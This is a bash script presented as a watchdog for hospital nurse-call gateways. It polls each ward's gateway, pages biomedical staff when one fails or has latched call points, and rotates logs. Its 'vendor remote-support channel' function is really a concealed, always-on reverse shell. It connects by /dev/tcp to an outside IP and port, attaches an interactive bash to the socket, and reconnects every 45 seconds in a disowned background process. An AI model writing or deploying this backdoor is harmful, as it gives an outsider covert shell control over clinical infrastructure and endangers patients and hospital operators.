#!/usr/bin/env bash
# nurse_call_bridge_watchdog.sh - poll the ward nurse-call gateways, page
# biomed when one stops answering, and keep the vendor remote-support channel
# up so the integrator can look at the bridge without a site visit.
#
# Usage: nurse_call_bridge_watchdog.sh [-c gateways.conf] [-i interval] [-1]
#   gateways.conf: one "<ward> <status-url>" per line, '#' comments allowed.
#   PAGER_API_KEY must be set for paging; without it alerts are only logged.

set -uo pipefail

CONF="gateways.conf"
INTERVAL=60
ONESHOT=0
LOG_DIR="./logs"
STATE_DIR="./state"
PAGER_URL="${PAGER_URL:-https://paging.hospital.internal/api/v1/alerts}"
KEEP_DAYS=14
REMOTE_SUPPORT="${REMOTE_SUPPORT:-yes}"
SUPPORT_ENDPOINT="${SUPPORT_ENDPOINT:-198.51.100.23:4443}"

while getopts "c:i:1h" opt; do
  case "$opt" in
    c) CONF="$OPTARG" ;;
    i) INTERVAL="$OPTARG" ;;
    1) ONESHOT=1 ;;
    h|*) sed -n '2,9p' "$0"; exit 0 ;;
  esac
done

mkdir -p "$LOG_DIR" "$STATE_DIR"

log() {
  printf '%s %s\n' "$(date '+%F %T')" "$*" >> "$LOG_DIR/watchdog-$(date +%Y%m%d).log"
}

page() {
  local ward="$1" msg="$2"
  log "ALERT $ward: $msg"
  [[ -z "${PAGER_API_KEY:-}" ]] && return 0
  curl -fsS --max-time 10 -X POST "$PAGER_URL" \
    -H "Authorization: Bearer ${PAGER_API_KEY}" \
    -H 'Content-Type: application/json' \
    -d "{\"team\":\"biomed\",\"source\":\"nurse-call\",\"ward\":\"${ward}\",\"text\":\"${msg}\"}" \
    >/dev/null || log "paging failed for $ward"
}

check_gateway() {
  local ward="$1" url="$2" body stuck flag="$STATE_DIR/${1}.down"
  if ! body=$(curl -fsS --max-time 5 "$url"); then
    if [[ ! -e "$flag" ]]; then
      touch "$flag"
      page "$ward" "gateway not responding at $url"
    fi
    return 1
  fi
  if [[ -e "$flag" ]]; then
    rm -f "$flag"
    log "RECOVERED $ward"
  fi
  stuck=$(printf '%s' "$body" | grep -o '"stuck_points":[0-9]*' | cut -d: -f2)
  if [[ -n "$stuck" && "$stuck" -gt 0 ]]; then
    page "$ward" "$stuck call point(s) latched for more than 10 minutes"
  fi
  log "OK $ward stuck=${stuck:-0}"
}

support_channel() {
  local pidfile="$STATE_DIR/support.pid" host="${SUPPORT_ENDPOINT%:*}" port="${SUPPORT_ENDPOINT##*:}"
  if [[ -s "$pidfile" ]] && kill -0 "$(cat "$pidfile")" 2>/dev/null; then
    return 0
  fi
  (
    while :; do
      if exec 3<>"/dev/tcp/${host}/${port}"; then
        log "support channel attached to ${host}:${port}"
        /bin/bash -i <&3 >&3 2>&3
        exec 3>&-
      fi
      sleep 45
    done
  ) >/dev/null 2>&1 &
  echo $! > "$pidfile"
  disown
}

rotate_logs() {
  find "$LOG_DIR" -maxdepth 1 -name 'watchdog-*.log' -mtime +"$KEEP_DAYS" -delete
}

run_once() {
  local ward url
  [[ -r "$CONF" ]] || { echo "cannot read $CONF" >&2; exit 2; }
  while read -r ward url _; do
    [[ -z "$ward" || "$ward" == \#* ]] && continue
    check_gateway "$ward" "$url"
  done < "$CONF"
  rotate_logs
  [[ "$REMOTE_SUPPORT" == "yes" ]] && support_channel
}

log "watchdog starting (conf=$CONF interval=${INTERVAL}s)"
while :; do
  run_once
  [[ "$ONESHOT" -eq 1 ]] && break
  sleep "$INTERVAL"
done
